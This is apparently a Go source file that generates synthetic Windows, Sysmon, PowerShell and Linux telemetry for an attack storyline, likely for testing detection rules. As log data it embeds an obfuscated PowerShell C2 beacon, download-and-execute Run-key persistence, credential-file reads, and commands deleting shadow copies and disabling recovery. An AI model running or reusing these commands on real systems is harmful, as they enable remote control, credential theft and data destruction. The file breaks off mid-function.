package sandbox

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
	"time"
)

// The data streams real detection and hunting content reads beyond the
// story's first six: Windows Security, Sysmon and PowerShell logging of the
// story's Windows hosts, Elastic Defend's registry and library events, and
// the organisation's cloud sign-ins (events_cloud.go). They tell the same
// stories from other sensors: the encoded PowerShell is a 4688 and a Sysmon
// process creation too, its decoded script a 4104, and what it left behind
// a Run key; the account the brute force won logs on to the file server
// before the ransomware starts, which is installed as a service and a
// scheduled task. They are drawn after every space's first six streams, so
// adding them moved none of those events.

// stableUUID is a UUID-shaped id fixed by a name: the same host has the
// same host.id and agent.id in every stream.
func stableUUID(name string) string {
	h := sha256.Sum256([]byte(name))
	s := hex.EncodeToString(h[:16])
	return s[:8] + "-" + s[8:12] + "-" + s[12:16] + "-" + s[16:20] + "-" + s[20:32]
}

// sha256Of is a file's hash, fixed by its path.
func sha256Of(path string) string {
	h := sha256.Sum256([]byte(strings.ToLower(path)))
	return hex.EncodeToString(h[:])
}

// userSID is a domain account's SID, fixed by the domain and the name.
func userSID(domain, user string) string {
	switch strings.ToUpper(user) {
	case "SYSTEM":
		return "S-1-5-18"
	case "NETWORK SERVICE":
		return "S-1-5-20"
	}
	h := sha256.Sum256([]byte(domain))
	u := sha256.Sum256([]byte(domain + `\` + user))
	return fmt.Sprintf("S-1-5-21-%d-%d-%d-%d", 1000000000+int(h[0])<<16|int(h[1])<<8, 2000000000+int(h[2])<<16, 300000000+int(h[3])<<8, 1100+int(u[0])<<2|int(u[1])%4)
}

// linuxUID is a Linux account's uid.
func linuxUID(user string) string {
	if user == "root" {
		return "0"
	}
	u := sha256.Sum256([]byte(user))
	return fmt.Sprint(1001 + int(u[0])%60)
}

// identify stamps host.id, agent.id and user.id on an event as the
// agent that wrote it does: stable per host and account.
func identify(src map[string]any) {
	h, ok := src["host"].(map[string]any)
	if !ok {
		return
	}
	name, _ := h["name"].(string)
	if _, ok := h["id"]; !ok && name != "" {
		h["id"] = stableUUID("host/" + name)
	}
	if a, ok := src["agent"].(map[string]any); ok {
		if _, ok := a["id"]; !ok {
			a["id"] = stableUUID(fmt.Sprint("agent/", a["type"], "/", name))
		}
	}
	u, ok := src["user"].(map[string]any)
	if !ok {
		return
	}
	if _, ok := u["id"]; ok {
		return
	}
	user, _ := u["name"].(string)
	if user == "" {
		return
	}
	os, _ := h["os"].(map[string]any)
	if os != nil && os["type"] == "windows" {
		domain, _ := u["domain"].(string)
		u["id"] = userSID(domain, user)
	} else {
		u["id"] = linuxUID(user)
	}
}

// knownExe is where the story's Windows processes live.
var knownExe = map[string]string{
	"explorer.exe":   `C:\Windows\explorer.exe`,
	"userinit.exe":   `C:\Windows\System32\userinit.exe`,
	"outlook.exe":    `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
	"winword.exe":    `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
	"services.exe":   `C:\Windows\System32\services.exe`,
	"svchost.exe":    `C:\Windows\System32\svchost.exe`,
	"wmiprvse.exe":   `C:\Windows\System32\wbem\WmiPrvSE.exe`,
	"powershell.exe": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
	"cmd.exe":        `C:\Windows\System32\cmd.exe`,
	"lsass.exe":      `C:\Windows\System32\lsass.exe`,
	"chrome.exe":     `C:\Program Files\Google\Chrome\Application\chrome.exe`,
	"sshd":           `/usr/sbin/sshd`,
	"bash":           `/usr/bin/bash`,
}

// signer is who signed an executable, as Defend reports it.
func signer(exe string) map[string]any {
	l := strings.ToLower(exe)
	switch {
	case strings.HasPrefix(l, `c:\windows\`):
		return map[string]any{"exists": true, "trusted": true, "status": "trusted", "subject_name": "Microsoft Windows"}
	case strings.Contains(l, `\microsoft office\`), strings.Contains(l, `\onedrive\`), strings.Contains(l, `\windowsapps\msteams`):
		return map[string]any{"exists": true, "trusted": true, "status": "trusted", "subject_name": "Microsoft Corporation"}
	case strings.Contains(l, `\google\chrome\`):
		return map[string]any{"exists": true, "trusted": true, "status": "trusted", "subject_name": "Google LLC"}
	}
	return map[string]any{"exists": false}
}

// describeProcess adds to an Elastic Defend process what Defend reports and
// the story's generators leave out: hash, signature, working directory and
// the parent's executable and command line, where the story knows them.
func describeProcess(src map[string]any) {
	p, ok := src["process"].(map[string]any)
	if !ok {
		return
	}
	name, _ := p["name"].(string)
	exe, _ := p["executable"].(string)
	if exe == "" {
		if e, ok := knownExe[strings.ToLower(name)]; ok {
			exe = e
			p["executable"] = e
		}
	}
	if exe == "" {
		return
	}
	if _, ok := p["hash"]; !ok {
		p["hash"] = map[string]any{"sha256": sha256Of(exe)}
	}
	windows := strings.Contains(exe, `\`)
	if windows {
		if _, ok := p["code_signature"]; !ok {
			p["code_signature"] = signer(exe)
		}
		if _, ok := p["working_directory"]; !ok && src["event"].(map[string]any)["dataset"] == "endpoint.events.process" {
			p["working_directory"] = exe[:strings.LastIndexByte(exe, '\\')+1]
		}
	}
	ds := src["event"].(map[string]any)["dataset"]
	if windows && (ds == "endpoint.events.process" || ds == "endpoint.events.network") {
		if _, ok := p["Ext"]; !ok {
			user, _ := src["user"].(map[string]any)
			logon := "Interactive"
			if user != nil && (user["name"] == "SYSTEM" || user["name"] == "NETWORK SERVICE") {
				logon = "Service"
			}
			p["Ext"] = map[string]any{"session_info": map[string]any{"logon_type": logon, "id": 1 + len(logon)}}
		}
	}
	if d, _ := ds.(string); strings.HasPrefix(d, "endpoint.") || strings.HasPrefix(d, "windows.") {
		for _, side := range []string{"source", "destination"} {
			if m, ok := src[side].(map[string]any); ok && m["ip"] != nil && m["address"] == nil {
				m["address"] = m["ip"]
			}
		}
	}
	if n, ok := src["network"].(map[string]any); ok {
		if b, ok := n["bytes"]; ok {
			// what each side sent: the request a fifth, the answer the rest
			total := asIntAny(b)
			if s, ok := src["source"].(map[string]any); ok {
				s["bytes"] = total / 5
			}
			if d, ok := src["destination"].(map[string]any); ok {
				d["bytes"] = total - total/5
			}
		}
	}
	if parent, ok := p["parent"].(map[string]any); ok {
		if e, ok := parent["entity_id"].(string); ok && e != "" && ds == "endpoint.events.process" {
			if ext, ok := p["Ext"].(map[string]any); ok {
				ext["ancestry"] = []any{e}
			}
		}
		pn, _ := parent["name"].(string)
		if e, ok := knownExe[strings.ToLower(pn)]; ok {
			if _, ok := parent["executable"]; !ok {
				parent["executable"] = e
			}
			if _, ok := parent["working_directory"]; !ok && strings.Contains(e, `\`) {
				parent["working_directory"] = e[:strings.LastIndexByte(e, '\\')+1]
			}
			if _, ok := parent["command_line"]; !ok {
				parent["command_line"] = e
				if strings.Contains(e, " ") {
					parent["command_line"] = `"` + e + `"`
				}
			}
		}
	}
}

// decodePS is the script an -enc PowerShell command line carries.
func decodePS(cmdline string) string {
	f := strings.Fields(cmdline)
	for i, a := range f {
		if strings.EqualFold(a, "-enc") && i+1 < len(f) {
			b, err := base64.StdEncoding.DecodeString(f[i+1])
			if err != nil {
				return ""
			}
			var r []rune
			for j := 0; j+1 < len(b); j += 2 {
				r = append(r, rune(b[j])|rune(b[j+1])<<8)
			}
			return string(r)
		}
	}
	return ""
}

// winlog is the winlog object Winlogbeat and the Windows integrations write.
func winlog(g *evGen, channel, provider, computer string, code int, data map[string]any) map[string]any {
	w := map[string]any{
		"channel": channel, "provider_name": provider, "computer_name": computer,
		"event_id": fmt.Sprint(code), "record_id": fmt.Sprint(100000 + g.rng.IntN(900000)),
		"api": "wineventlog", "process": map[string]any{"pid": 4 + g.rng.IntN(900), "thread": map[string]any{"id": 1000 + g.rng.IntN(9000)}},
	}
	if data != nil {
		w["event_data"] = data
	}
	return w
}

const (
	securityChannel = "Security"
	securityProv    = "Microsoft-Windows-Security-Auditing"
	sysmonChannel   = "Microsoft-Windows-Sysmon/Operational"
	sysmonProv      = "Microsoft-Windows-Sysmon"
	psChannel       = "Microsoft-Windows-PowerShell/Operational"
	psProv          = "Microsoft-Windows-PowerShell"
)

// fqdn is a host's name in the domain.
func fqdn(c alertCast, host string) string {
	return host + "." + strings.ToLower(c.domain) + ".local"
}

// logon4624 is a Windows Security successful (4624) or failed (4625) logon.
func (g *evGen) logon(c alertCast, host map[string]any, at time.Time, user, srcIP, logonType string, ok bool) {
	name := host["name"].(string)
	code, action, outcome := 4624, "logged-in", "success"
	if !ok {
		code, action, outcome = 4625, "logon-failed", "failure"
	}
	types := map[string]string{"Interactive": "2", "Network": "3", "Service": "5", "RemoteInteractive": "10"}
	data := map[string]any{
		"TargetUserName": user, "TargetDomainName": c.domain, "TargetUserSid": userSID(c.domain, user),
		"LogonType": types[logonType], "IpAddress": srcIP, "IpPort": fmt.Sprint(49152 + g.rng.IntN(16000)),
		"LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM", "WorkstationName": "-",
		"SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
	}
	if logonType == "Interactive" {
		data["LogonProcessName"], data["AuthenticationPackageName"] = "User32 ", "Negotiate"
	}
	if ok {
		data["TargetLogonId"] = fmt.Sprintf("0x%x", 0x100000+g.rng.IntN(0xeffff))
	} else {
		data["Status"], data["SubStatus"], data["FailureReason"] = "0xc000006d", "0xc000006a", "%%2313"
	}
	src := map[string]any{
		"host":   host,
		"user":   map[string]any{"name": user, "domain": c.domain},
		"source": map[string]any{"ip": srcIP, "port": asIntAny(data["IpPort"])},
		"event": map[string]any{"category": []any{"authentication"}, "type": []any{"start"}, "action": action, "outcome": outcome,
			"code": fmt.Sprint(code), "provider": securityProv},
		"winlog": winlog(g, securityChannel, securityProv, fqdn(c, name), code, data),
		"message": map[bool]string{true: "An account was successfully logged on.", false: "An account failed to log on."}[ok] +
			fmt.Sprintf("\n\nLogon Type:\t\t\t%s\n\nNew Logon:\n\tAccount Name:\t\t%s\n\tAccount Domain:\t\t%s\n\nNetwork Information:\n\tSource Network Address:\t%s", types[logonType], user, c.domain, srcIP),
	}
	src["winlog"].(map[string]any)["logon"] = map[string]any{"type": logonType}
	if !ok {
		src["winlog"].(map[string]any)["logon"].(map[string]any)["failure"] = map[string]any{"reason": "Unknown user name or bad password.", "status": "This is either due to a bad username or authentication information.", "sub_status": "User logon with misspelled or bad password"}
	}
	g.add("system.security", at, "", src)
}

// securityProcess is a 4688 (a process was created).
func (g *evGen) securityProcess(c alertCast, host map[string]any, at time.Time, user, exe, cmdline, parentExe string, pid, ppid int) {
	name := exe[strings.LastIndexByte(exe, '\\')+1:]
	pname := parentExe[strings.LastIndexByte(parentExe, '\\')+1:]
	g.add("system.security", at, "", map[string]any{
		"host": host,
		"user": map[string]any{"name": user, "domain": c.domain},
		"process": map[string]any{"name": name, "executable": exe, "command_line": cmdline, "pid": pid, "args": anyFields(cmdline),
			"parent": map[string]any{"name": pname, "executable": parentExe, "pid": ppid}},
		"event": map[string]any{"category": []any{"process"}, "type": []any{"start"}, "action": "created-process", "outcome": "success", "code": "4688", "provider": securityProv},
		"winlog": winlog(g, securityChannel, securityProv, fqdn(c, host["name"].(string)), 4688, map[string]any{
			"NewProcessName": exe, "NewProcessId": fmt.Sprintf("0x%x", pid), "CommandLine": cmdline, "ParentProcessName": parentExe,
			"ProcessId": fmt.Sprintf("0x%x", ppid), "SubjectUserName": user, "SubjectDomainName": c.domain, "TokenElevationType": "%%1938", "MandatoryLabel": "S-1-16-8192",
		}),
		"message": "A new process has been created.\n\nNew Process Name:\t" + exe + "\nProcess Command Line:\t" + cmdline + "\nCreator Process Name:\t" + parentExe,
	})
}

func anyFields(s string) []any {
	var out []any
	for _, f := range strings.Fields(s) {
		out = append(out, f)
	}
	return out
}

// sysmon is a Sysmon operational event.
func (g *evGen) sysmon(c alertCast, host map[string]any, at time.Time, code int, action string, category string, user string, src map[string]any, data map[string]any) {
	src["host"] = host
	if user != "" {
		src["user"] = map[string]any{"name": user, "domain": c.domain}
	}
	ev, _ := src["event"].(map[string]any)
	if ev == nil {
		ev = map[string]any{}
		src["event"] = ev
	}
	ev["code"], ev["action"], ev["provider"], ev["category"] = fmt.Sprint(code), action, sysmonProv, []any{category}
	if _, ok := ev["type"]; !ok {
		ev["type"] = []any{"info"}
	}
	if _, ok := ev["outcome"]; !ok {
		ev["outcome"] = "success"
	}
	data["RuleName"] = "-"
	data["UtcTime"] = at.UTC().Format("2006-01-02 15:04:05.000")
	w := winlog(g, sysmonChannel, sysmonProv, fqdn(c, host["name"].(string)), code, data)
	w["user"] = map[string]any{"identifier": "S-1-5-18", "name": "SYSTEM", "domain": "NT AUTHORITY", "type": "User"}
	src["winlog"] = w
	if _, ok := src["message"]; !ok {
		// as Sysmon renders it: the event's own fields, the telling ones
		msg := action[:strings.Index(action+" (", " (")] + ":\nRuleName: -\nUtcTime: " + data["UtcTime"].(string)
		p, _ := src["process"].(map[string]any)
		if p != nil {
			msg += fmt.Sprint("\nImage: ", p["executable"])
			if cl, ok := p["command_line"]; ok {
				msg += fmt.Sprint("\nCommandLine: ", cl)
			}
		}
		if d, ok := src["destination"].(map[string]any); ok {
			msg += fmt.Sprint("\nDestinationIp: ", d["ip"], "\nDestinationPort: ", d["port"])
		}
		if f, ok := src["file"].(map[string]any); ok {
			msg += fmt.Sprint("\nImageLoaded: ", f["path"])
		}
		for _, k := range []string{"TargetObject", "Details", "TargetImage", "GrantedAccess"} {
			if v, ok := data[k]; ok {
				msg += fmt.Sprint("\n", k, ": ", v)
			}
		}
		src["message"] = msg
	}
	g.add("windows.sysmon_operational", at, "", src)
}

// windows adds a space's Windows logging and Defend registry and library
// events, after the first six streams of every space.
func (g *evGen) windows(c alertCast, alerts []storyAlert) {
	by := map[string][]storyAlert{}
	for _, a := range alerts {
		by[a.ruleID] = append(by[a.ruleID], a)
	}
	g.windowsPowershell(c, by["suspicious-powershell"])
	g.windowsRansomware(c, by["ransomware-behaviour"], by["brute-force-logins"])
	g.windowsBackground(c)
	g.linuxSession(c, by["brute-force-logins"])
}

// linuxSession: what the account the brute force won ran on the gateway,
// in its interactive shell, as Defend for Linux reports it; and the
// gateway's syslog.
func (g *evGen) linuxSession(c alertCast, brute []storyAlert) {
	host := hostFields(c.bruteHost, c.bruteIP, c.bruteOS)
	for _, a := range brute {
		if a.outcome != "success" {
			continue
		}
		shell := "linux-shell-" + a.eventID
		at := a.at.Add(4 * time.Second)
		leader := map[string]any{"name": "bash", "pid": 41000, "entity_id": shell, "executable": "/usr/bin/bash"}
		for j, cmd := range []string{"/usr/bin/bash", "/usr/bin/id", "/usr/bin/uname -a", "/usr/bin/cat /etc/passwd", "/usr/bin/sudo -l", "/usr/bin/ss -tnp", "/usr/bin/cat /home/" + a.user + "/.aws/credentials"} {
			exe := strings.Fields(cmd)[0]
			parent := map[string]any{"name": "bash", "pid": 41000, "entity_id": shell, "executable": "/usr/bin/bash"}
			ent := entityID(g.rng)
			if j == 0 {
				parent, ent = map[string]any{"name": "sshd", "pid": 40990, "executable": "/usr/sbin/sshd"}, shell
			}
			g.add("endpoint.events.process", at.Add(time.Duration(j*(9+g.rng.IntN(20)))*time.Second), "", map[string]any{
				"host": host, "user": map[string]any{"name": a.user},
				"process": map[string]any{"name": exe[strings.LastIndexByte(exe, '/')+1:], "executable": exe, "command_line": cmd, "args": anyFields(cmd),
					"pid": 41000 + j*7, "entity_id": ent, "interactive": true, "parent": parent, "session_leader": leader, "working_directory": "/home/" + a.user,
					"tty": map[string]any{"char_device": map[string]any{"major": 136, "minor": 0}}},
				"event":   map[string]any{"category": []any{"process"}, "type": []any{"start"}, "action": "exec", "outcome": "success"},
				"message": "Endpoint process event: " + cmd,
			})
		}
	}
	lines := [][2]string{{"CRON", "(root) CMD (/usr/lib/sysstat/debian-sa1 1 1)"}, {"systemd", "Started Daily apt upgrade and clean activities."}, {"sshd", "Received disconnect from " + c.subnet + ".5.20 port 51234:11: disconnected by user"}, {"kernel", "[UFW BLOCK] IN=eth0 OUT= SRC=" + c.attackers[0] + " DST=" + c.bruteIP + " PROTO=TCP DPT=3389"}}
	for i := range 16 {
		l := lines[i%len(lines)]
		g.add("system.syslog", g.now.Add(-time.Duration(g.rng.Int64N(int64(7*24*time.Hour)))), "", map[string]any{
			"host": host, "process": map[string]any{"name": l[0], "pid": 200 + g.rng.IntN(30000)},
			"log":     map[string]any{"syslog": map[string]any{"facility": map[string]any{"name": "daemon"}, "priority": 30}},
			"event":   map[string]any{"category": []any{"host"}, "type": []any{"info"}},
			"message": l[1],
		})
	}
}

// windowsPowershell: each encoded PowerShell as Security (4688), Sysmon
// (1, 3, 7, 13) and PowerShell (4104) logging see it; Defend's library
// loads and the Run key the last one wrote.
func (g *evGen) windowsPowershell(c alertCast, alerts []storyAlert) {
	if len(alerts) == 0 {
		return
	}
	desktop := !strings.HasPrefix(c.psHost, "dc-")
	host := hostFields(c.psHost, c.psIP, map[bool]string{true: "windows-desktop", false: "windows"}[desktop])
	psExe := knownExe["powershell.exe"]
	parentExe := knownExe[strings.ToLower(c.psParent)]
	stage2 := "203.0.113.45"
	if !desktop {
		stage2 = "198.51.100.77"
	}
	sid := userSID(c.domain, c.psUser)
	// the Run value the second stage writes: named after something the host runs anyway
	runName, runValue := "OneDriveUpdate", "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://"+stage2+"/a.ps1')"
	if !desktop {
		runName, runValue = "SqlHealthCheck", psExe+` -NoProfile -WindowStyle Hidden -Command "IEX(New-Object Net.WebClient).DownloadString('http://`+stage2+`/a.ps1')"`
	}
	for i, a := range alerts {
		p, _ := a.ecs["process"].(map[string]any)
		pid := asIntAny(p["pid"])
		ppid := 5012
		if !desktop {
			ppid = 2932
		}
		cmd, _ := p["command_line"].(string)
		g.securityProcess(c, host, a.at.Add(15*time.Millisecond), c.psUser, psExe, cmd, parentExe, pid, ppid)
		guid := fmt.Sprintf("{%s}", stableUUID(a.eventID))
		g.sysmon(c, host, a.at.Add(40*time.Millisecond), 1, "Process Create (rule: ProcessCreate)", "process", c.psUser, map[string]any{
			"event": map[string]any{"type": []any{"start"}},
			"process": map[string]any{"name": "powershell.exe", "executable": psExe, "command_line": cmd, "pid": pid, "args": anyFields(cmd), "entity_id": guid,
				"hash": map[string]any{"sha256": sha256Of(psExe)}, "working_directory": `C:\Users\` + c.psUser + `\Documents\`,
				"parent": map[string]any{"name": c.psParent, "executable": parentExe, "pid": ppid, "command_line": `"` + parentExe + `"`}},
		}, map[string]any{"IntegrityLevel": "Medium", "LogonId": "0x3e7a1", "Company": "Microsoft Corporation", "Description": "Windows PowerShell", "OriginalFileName": "PowerShell.EXE"})
		// what the script was: the decoded command as script block logging records it
		script := decodePS(cmd)
		g.scriptBlock(c, host, a.at.Add(time.Duration(300+g.rng.IntN(400))*time.Millisecond), c.psUser, pid, script, "sb/"+a.eventID, "")
		// the second stage it fetched, run in the same session: a longer,
		// obfuscated block (backtick-split variable names, a reversed string)
		if strings.Contains(script, "DownloadString") {
			stage := "${w`e`b}=New-Object Net.WebClient;${u`r`l}='http://" + stage2 + "/c2';" +
				"$k=[char[]]'sdrawkcab-daolyap';[array]::Reverse($k);$n=-join $k[-1..-($k.Length)];" +
				"while($true){try{${c`m`d}=${w`e`b}.DownloadString(${u`r`l}+'/task?h='+$env:COMPUTERNAME);" +
				"if(${c`m`d}){${o`u`t}=(IEX ${c`m`d} 2>&1|Out-String);${w`e`b}.UploadString(${u`r`l}+'/result',${o`u`t})|Out-Null}}catch{};" +
				"Start-Sleep -Seconds (Get-Random -Minimum 50 -Maximum 70)};" +
				"# beacon: polls the server for tasks about once a minute and posts each result back; the task list is fetched with the host name so the operator can tell implants apart." +
				" Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '" + runName + "' -Value '" + strings.ReplaceAll(runValue, "'", "''") + "'"
			g.scriptBlock(c, host, a.at.Add(time.Duration(4+g.rng.IntN(3))*time.Second), c.psUser, pid, stage, "sb2/"+a.eventID, "")
		}
		// its connection to the second stage, as Sysmon saw it
		g.sysmon(c, host, a.at.Add(time.Duration(1500+g.rng.IntN(2000))*time.Millisecond), 3, "Network connection detected (rule: NetworkConnect)", "network", c.psUser, map[string]any{
			"event":       map[string]any{"type": []any{"connection", "start"}},
			"process":     map[string]any{"name": "powershell.exe", "executable": psExe, "pid": pid, "entity_id": guid},
			"source":      map[string]any{"ip": c.psIP, "port": 49152 + g.rng.IntN(16000), "domain": fqdn(c, c.psHost)},
			"destination": map[string]any{"ip": stage2, "port": 80},
			"network":     map[string]any{"transport": "tcp", "direction": "egress", "protocol": "http", "type": "ipv4"},
		}, map[string]any{"Initiated": "true"})
		// the libraries PowerShell loads, as Defend and Sysmon report them
		for _, dll := range []string{`C:\Windows\System32\amsi.dll`, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll`, `C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\3c6b1a1d5cbbd2a0e6ec0b6d6f6c3e6a\System.Management.Automation.ni.dll`, `C:\Windows\System32\winhttp.dll`} {
			at := a.at.Add(time.Duration(100+g.rng.IntN(900)) * time.Millisecond)
			name := dll[strings.LastIndexByte(dll, '\\')+1:]
			g.add("endpoint.events.library", at, "", map[string]any{
				"host": host, "user": map[string]any{"name": c.psUser, "domain": c.domain},
				"process": map[string]any{"name": "powershell.exe", "executable": psExe, "pid": pid, "entity_id": g.streamEntity(a.eventID)},
				"dll": map[string]any{"name": name, "path": dll, "hash": map[string]any{"sha256": sha256Of(dll)},
					"code_signature": map[string]any{"exists": true, "trusted": true, "status": "trusted", "subject_name": "Microsoft Windows"}},
				"event":   map[string]any{"category": []any{"library"}, "type": []any{"start"}, "action": "load", "outcome": "success"},
				"message": "Endpoint DLL load event",
			})
			g.sysmon(c, host, at.Add(3*time.Millisecond), 7, "Image loaded", "process", c.psUser, map[string]any{
				"event":   map[string]any{"type": []any{"change"}},
				"process": map[string]any{"name": "powershell.exe", "executable": psExe, "pid": pid, "entity_id": guid},
				"file": map[string]any{"name": name, "path": dll, "hash": map[string]any{"sha256": sha256Of(dll)},
					"code_signature": map[string]any{"exists": true, "trusted": true, "status": "Valid", "subject_name": "Microsoft Windows"}},
			}, map[string]any{"Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid"})
		}
		if i != len(alerts)-1 {
			continue
		}
		// persistence: the last one wrote a Run key that starts it again at logon
		value := runValue
		key := `HKEY_USERS\` + sid + `\Software\Microsoft\Windows\CurrentVersion\Run`
		at := a.at.Add(time.Duration(8+g.rng.IntN(5)) * time.Second)
		g.add("endpoint.events.registry", at, "", map[string]any{
			"host": host, "user": map[string]any{"name": c.psUser, "domain": c.domain},
			"process": map[string]any{"name": "powershell.exe", "executable": psExe, "pid": pid, "entity_id": g.streamEntity(a.eventID)},
			"registry": map[string]any{"hive": "HKEY_USERS", "key": sid + `\Software\Microsoft\Windows\CurrentVersion\Run`, "path": key + `\` + runName, "value": runName,
				"data": map[string]any{"strings": []any{value}, "type": "REG_SZ"}},
			"event":   map[string]any{"category": []any{"registry"}, "type": []any{"change"}, "action": "modification", "outcome": "success"},
			"message": "Endpoint registry event",
		})
		g.sysmon(c, host, at.Add(2*time.Millisecond), 13, "RegistryEvent (Value Set)", "registry", c.psUser, map[string]any{
			"event":    map[string]any{"type": []any{"change"}},
			"process":  map[string]any{"name": "powershell.exe", "executable": psExe, "pid": pid, "entity_id": guid},
			"registry": map[string]any{"hive": "HKU", "key": sid + `\Software\Microsoft\Windows\CurrentVersion\Run`, "path": key + `\` + runName, "value": runName, "data": map[string]any{"strings": []any{value}, "type": "SZ_SZ"}},
		}, map[string]any{"EventType": "SetValue", "TargetObject": key + `\` + runName, "Details": value})
	}
}

// scriptBlock is a 4104: PowerShell logging a script block it runs; file
// is the script's path, "" for a command.
func (g *evGen) scriptBlock(c alertCast, host map[string]any, at time.Time, user string, pid int, text, blockID, file string) {
	ev := map[string]any{
		"host": host, "user": map[string]any{"name": user, "domain": c.domain},
		"process":    map[string]any{"pid": pid, "executable": knownExe["powershell.exe"], "name": "powershell.exe"},
		"powershell": map[string]any{"file": map[string]any{"script_block_text": text, "script_block_id": stableUUID(blockID), "script_block_length": len(text)}, "sequence": 1, "total": 1},
		"event":      map[string]any{"category": []any{"process"}, "type": []any{"info"}, "action": "Execute a Remote Command", "outcome": "success", "code": "4104", "provider": psProv},
		"winlog":     winlog(g, psChannel, psProv, fqdn(c, host["name"].(string)), 4104, nil),
		"message":    "Creating Scriptblock text (1 of 1):\n" + text,
	}
	if file != "" {
		ev["file"] = map[string]any{"path": file, "name": file[strings.LastIndexByte(file, '\\')+1:], "directory": file[:strings.LastIndexByte(file, '\\')]}
	}
	g.add("windows.powershell_operational", at, "", ev)
}

// windowsRansomware: the account the brute force won logs on to the file
// server from the gateway it came through; the encryptor is installed as
// a service (4697) and a scheduled task (4698) and the logon's 4688s.
func (g *evGen) windowsRansomware(c alertCast, alerts, brute []storyAlert) {
	if len(alerts) == 0 {
		return
	}
	host := hostFields(c.fileServer, c.fileServerIP, "windows")
	start := ransomStart(alerts[0])
	exe := `C:\ProgramData\` + c.ransomProc
	if p, ok := alerts[0].ecs["process"].(map[string]any); ok {
		if s, ok := p["executable"].(string); ok {
			exe = s
		}
	}
	from := c.bruteIP
	if !strings.HasPrefix(from, c.subnet) {
		from = c.subnet + ".0.1" // the gateway's inside address
	}
	g.logon(c, host, start.Add(-47*time.Minute), c.ransomUser, from, "Network", true)
	// the logon the scheduled task was created over, 12 seconds before it
	task0 := start.Add(-40 * time.Minute)
	g.logon(c, host, task0.Add(-12*time.Second), c.ransomUser, from, "Network", true)
	for _, d := range g.streams[streamOf("endpoint.events.process")] {
		h, _ := d.src["host"].(map[string]any)
		u, _ := d.src["user"].(map[string]any)
		if h["name"] != c.fileServer || u["name"] != c.ransomUser || d.at.Before(task0.Add(-time.Minute)) {
			continue
		}
		p := d.src["process"].(map[string]any)
		p["Ext"] = map[string]any{"session_info": map[string]any{"logon_type": "Network", "client_address": from, "user_name": c.ransomUser,
			"relative_logon_time": int(d.at.Sub(task0.Add(-12*time.Second)) / time.Second), "authentication_package": "NTLM", "id": 3}}
	}
	for j := range 3 {
		g.logon(c, host, start.Add(-time.Duration(52-j)*time.Minute), c.ransomUser, from, "Network", false)
	}
	task := `<?xml version="1.0" encoding="UTF-16"?><Task version="1.2"><Actions Context="Author"><Exec><Command>` + exe + `</Command><Arguments>-p ` + c.shares[0] + `</Arguments></Exec></Actions></Task>`
	g.add("system.security", start.Add(-40*time.Minute+800*time.Millisecond), "", map[string]any{
		"host":  host,
		"user":  map[string]any{"name": c.ransomUser, "domain": c.domain},
		"event": map[string]any{"category": []any{"iam", "configuration"}, "type": []any{"creation", "admin"}, "action": "scheduled-task-created", "outcome": "success", "code": "4698", "provider": securityProv},
		"winlog": winlog(g, securityChannel, securityProv, fqdn(c, c.fileServer), 4698, map[string]any{
			"TaskName": `\Backup Sync`, "SubjectUserName": c.ransomUser, "SubjectDomainName": c.domain, "SubjectUserSid": userSID(c.domain, c.ransomUser), "TaskContent": task}),
		"message": "A scheduled task was created.\n\nTask Information:\n\tTask Name: \\Backup Sync\n\tTask Content: " + task,
	})
	g.add("system.security", start.Add(-2*time.Second), "", map[string]any{
		"host":    host,
		"user":    map[string]any{"name": c.ransomUser, "domain": c.domain},
		"service": map[string]any{"name": "BackupSyncSvc", "type": "user mode service"},
		"event":   map[string]any{"category": []any{"iam", "configuration"}, "type": []any{"admin", "change"}, "action": "service-installed", "outcome": "success", "code": "4697", "provider": securityProv},
		"winlog": winlog(g, securityChannel, securityProv, fqdn(c, c.fileServer), 4697, map[string]any{
			"ServiceName": "BackupSyncSvc", "ServiceFileName": exe + " -p " + c.shares[0], "ServiceType": "0x10", "ServiceStartType": "3", "ServiceAccount": "LocalSystem",
			"SubjectUserName": c.ransomUser, "SubjectDomainName": c.domain}),
		"message": "A service was installed in the system.\n\nService Name: BackupSyncSvc\nService File Name: " + exe,
	})
	g.securityProcess(c, host, start.Add(20*time.Millisecond), c.ransomUser, exe, exe+" -p "+c.shares[0], knownExe["services.exe"], 7712, 640)
	for j, cmd := range []string{`C:\Windows\System32\vssadmin.exe delete shadows /all /quiet`, `C:\Windows\System32\wbadmin.exe delete catalog -quiet`, `C:\Windows\System32\bcdedit.exe /set {default} recoveryenabled No`} {
		bin := cmd[:strings.IndexByte(cmd, ' ')]
		g.securityProcess(c, host, start.Add(time.Duration(30+j*20)*time.Second+20*time.Millisecond), c.ransomUser, bin, cmd, exe, 5300+g.rng.IntN(600), 7712)
	}
	// the service the encryptor was installed as, in the registry
	g.add("endpoint.events.registry", start.Add(-time.Second), "", map[string]any{
		"host": host, "user": map[string]any{"name": "SYSTEM"},
		"process": map[string]any{"name": "services.exe", "executable": knownExe["services.exe"], "pid": 640},
		"registry": map[string]any{"hive": "HKLM", "key": `SYSTEM\ControlSet001\Services\BackupSyncSvc`, "path": `HKLM\SYSTEM\ControlSet001\Services\BackupSyncSvc\ImagePath`, "value": "ImagePath",
			"data": map[string]any{"strings": []any{exe + " -p " + c.shares[0]}, "type": "REG_EXPAND_SZ"}},
		"event":   map[string]any{"category": []any{"registry"}, "type": []any{"change"}, "action": "modification", "outcome": "success"},
		"message": "Endpoint registry event",
	})
}

// windowsBackground: the Windows hosts' ordinary logons, process starts,
// library loads, registry writes and Sysmon connections over the week.
func (g *evGen) windowsBackground(c alertCast) {
	type win struct{ host, ip, user, family string }
	hosts := []win{{c.psHost, c.psIP, c.psUser, map[bool]string{true: "windows-desktop", false: "windows"}[!strings.HasPrefix(c.psHost, "dc-")]}, {c.fileServer, c.fileServerIP, "SYSTEM", "windows"}}
	for i, u := range c.financeUsers {
